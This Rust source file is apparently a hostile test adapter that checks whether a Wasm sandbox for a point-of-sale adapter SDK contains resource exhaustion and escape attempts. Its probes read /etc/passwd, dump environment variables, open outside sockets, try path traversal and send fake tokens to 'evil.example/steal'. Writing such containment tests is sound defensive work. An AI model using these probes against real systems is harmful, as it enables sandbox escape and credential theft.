//! A hostile adapter for the containment tests. `map-records` does what the
//! payload (a plain-text mode) asks: behave, loop forever, allocate without
//! bound, panic, return a 100 MB result, or probe for a way out (sockets,
//! files, environment, `pos-http` escapes and its own credentials,
//! undeclared secrets).
//!
//! Probes report what they observed as upserts whose `external_ref` names the
//! probe and whose `name` is the observation, so a test can assert that the
//! adapter saw nothing.
#![cfg_attr(
    not(target_arch = "wasm32"),
    allow(
        dead_code,
        reason = "the hostile behaviours are exported only from the Wasm build"
    )
)]

use snapact_adapter_sdk::http::{HttpError, Method, Request};
use snapact_adapter_sdk::signatures::{HmacAlgorithm, SignatureEncoding};
use snapact_adapter_sdk::{
    Adapter, AdapterError, Availability, Change, Item, Mapped, Money, export_adapter, invalid_input,
};

struct Hostile;

impl Adapter for Hostile {
    fn map_records(payload: &[u8], _content_type: &str) -> Result<Mapped, AdapterError> {
        let mode = std::str::from_utf8(payload)
            .map_err(|_| invalid_input("$", "the payload must be a UTF-8 mode name"))?
            .trim();
        match mode {
            "good" => Ok(changes(vec![item("good-1", "Good item", Some(150_000))])),
            "loop" => spin(),
            "alloc" => allocate_forever(),
            "panic" => panic!("hostile adapter panics on purpose"),
            // Built in place: the only copy of the 100 MB is the one returned.
            "big-output" => Ok(changes(vec![item(
                "big",
                "x".repeat(100 * 1024 * 1024),
                None,
            )])),
            "socket" => Ok(changes(probe_sockets())),
            "file" => Ok(changes(probe_files())),
            "env" => Ok(changes(probe_env())),
            "http" => Ok(changes(probe_http())),
            "pos-credentials" => Ok(changes(probe_pos_credentials())),
            "learn-secrets" => Ok(changes(probe_secret_values())),
            "secret" => {
                snapact_adapter_sdk::signatures::verify_hmac(
                    "admin_password",
                    HmacAlgorithm::Sha256,
                    b"message",
                    "00",
                    SignatureEncoding::Hex,
                )?;
                Ok(changes(vec![probe(
                    "secret",
                    "verified with an undeclared secret",
                )]))
            }
            other => Err(invalid_input("$", format!("unknown mode {other:?}"))),
        }
    }
}

export_adapter!(Hostile);

fn changes(changes: Vec<Change>) -> Mapped {
    Mapped {
        changes,
        rejected: Vec::new(),
    }
}

fn item(external_ref: &str, name: impl Into<String>, price_minor: Option<i64>) -> Change {
    Change::Upsert(Item {
        external_ref: external_ref.into(),
        name: name.into(),
        price: price_minor.map(|amount_minor| Money {
            amount_minor,
            currency: "NGN".into(),
        }),
        quantity: Some(3),
        availability: Availability::InStock,
        sku: None,
        barcode: None,
        category: None,
        description: None,
        image_url: None,
        parent_ref: None,
        stock_key: None,
        source_version: None,
    })
}

/// One observation, reported as an upsert so the test can read it.
fn probe(name: &str, observation: &str) -> Change {
    item(name, observation, None)
}

fn spin() -> ! {
    let mut n: u64 = 0;
    loop {
        n = std::hint::black_box(n.wrapping_add(1));
    }
}

fn allocate_forever() -> ! {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        // Untouched capacity: the memory grows without the cost of writing it.
        let mut chunk = Vec::with_capacity(1 << 20);
        chunk.push(1u8);
        hoard.push(std::hint::black_box(chunk));
    }
}

fn outcome<T, E: std::fmt::Display>(r: Result<T, E>, ok: impl FnOnce(T) -> String) -> String {
    match r {
        Ok(v) => format!("OPEN: {}", ok(v)),
        Err(e) => format!("denied: {e}"),
    }
}

fn probe_sockets() -> Vec<Change> {
    use std::net::{TcpStream, ToSocketAddrs, UdpSocket};
    let tcp = outcome(TcpStream::connect("93.184.215.14:80"), |s| {
        format!("connected to {:?}", s.peer_addr())
    });
    let dns = outcome(("example.com", 80).to_socket_addrs(), |a| {
        format!("resolved {:?}", a.collect::<Vec<_>>())
    });
    let udp = outcome(UdpSocket::bind("0.0.0.0:0"), |s| {
        format!("bound {:?}", s.local_addr())
    });
    vec![probe("tcp", &tcp), probe("dns", &dns), probe("udp", &udp)]
}

fn probe_files() -> Vec<Change> {
    let passwd = outcome(std::fs::read_to_string("/etc/passwd"), |s| {
        format!("read {} bytes", s.len())
    });
    let root = outcome(std::fs::read_dir("/"), |d| {
        format!("listed {} entries", d.count())
    });
    let cwd = outcome(std::env::current_dir(), |d| format!("cwd {}", d.display()));
    let create = outcome(std::fs::write("planted.txt", b"x"), |_| {
        "wrote a file".into()
    });
    vec![
        probe("passwd", &passwd),
        probe("root-dir", &root),
        probe("cwd", &cwd),
        probe("create", &create),
    ]
}

fn probe_env() -> Vec<Change> {
    let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
    let args: Vec<String> = std::env::args().collect();
    vec![
        probe("env", &format!("{} vars: {}", vars.len(), vars.join(","))),
        probe("args", &format!("{} args: {}", args.len(), args.join(" "))),
    ]
}

fn probe_http() -> Vec<Change> {
    let paths = [
        ("scheme", "https://evil.example/steal"),
        ("authority", "//evil.example/steal"),
        ("dotdot", "/api/../../admin"),
        ("encoded-dotdot", "/api/%2e%2e/admin"),
        ("relative", "api/items"),
        ("allowed", "/v2/catalog/list"),
    ];
    paths
        .iter()
        .map(|(name, path)| {
            let req = Request {
                method: Method::Get,
                path: (*path).into(),
                query: Vec::new(),
                headers: vec![
                    ("authorization".into(), "Bearer stolen".into()),
                    ("x-api-key".into(), "stolen".into()),
                    ("accept".into(), "application/json".into()),
                ],
                body: Vec::new(),
            };
            let seen = match snapact_adapter_sdk::bindings::snapact::adapter::pos_http::send(&req) {
                Ok(resp) => format!("OPEN: status {}", resp.status),
                Err(HttpError::Denied(why)) => format!("denied: {why}"),
                Err(HttpError::NotConfigured(why)) => format!("not-configured: {why}"),
                Err(other) => format!("error: {other:?}"),
            };
            probe(name, &seen)
        })
        .collect()
}

/// Sends its own credentials along with allowed requests, and tries a host
/// the manifest does not declare. The host must drop every credential the
/// adapter set and send the shop's own instead.
/// Every import an adapter could learn a secret value through: settings
/// (asked for secret names), the signature helpers (which answer only
/// yes/no), and a POS endpoint that echoes the request's credentials.
fn probe_secret_values() -> Vec<Change> {
    let setting =
        |name: &str| snapact_adapter_sdk::settings::get(name).unwrap_or_else(|| "none".to_string());
    let equals = snapact_adapter_sdk::signatures::secret_equals("webhook_key", "guess")
        .map_or_else(|e| format!("error: {e:?}"), |b| b.to_string());
    let echo = match snapact_adapter_sdk::http::get("/echo", &[]) {
        Ok(resp) => String::from_utf8_lossy(&resp.body).into_owned(),
        Err(e) => format!("error: {e:?}"),
    };
    vec![
        probe("settings-webhook_key", &setting("webhook_key")),
        probe("settings-admin_password", &setting("admin_password")),
        probe("settings-pos_auth", &setting("pos_auth")),
        probe("secret-equals", &equals),
        probe("echo", &echo),
    ]
}

fn probe_pos_credentials() -> Vec<Change> {
    let attempts = [
        ("allowed-get", Method::Get, "/v2/catalog/list", Vec::new()),
        ("allowed-post", Method::Post, "/v2/orders", b"{}".to_vec()),
        (
            "undeclared-host",
            Method::Get,
            "https://evil.example/steal",
            Vec::new(),
        ),
    ];
    attempts
        .into_iter()
        .map(|(name, method, path, body)| {
            let req = Request {
                method,
                path: path.into(),
                query: vec![("page".into(), "1".into())],
                headers: vec![
                    ("Authorization".into(), "Bearer guest-token".into()),
                    ("Cookie".into(), "session=guest-cookie".into()),
                    ("X-Api-Key".into(), "guest-api-key".into()),
                    ("X-Shopify-Access-Token".into(), "guest-shopify".into()),
                    ("accept".into(), "application/json".into()),
                ],
                body,
            };
            let seen = match snapact_adapter_sdk::bindings::snapact::adapter::pos_http::send(&req) {
                Ok(resp) => format!("OPEN: status {}", resp.status),
                Err(HttpError::Denied(why)) => format!("denied: {why}"),
                Err(HttpError::NotConfigured(why)) => format!("not-configured: {why}"),
                Err(other) => format!("error: {other:?}"),
            };
            probe(name, &seen)
        })
        .collect()
}
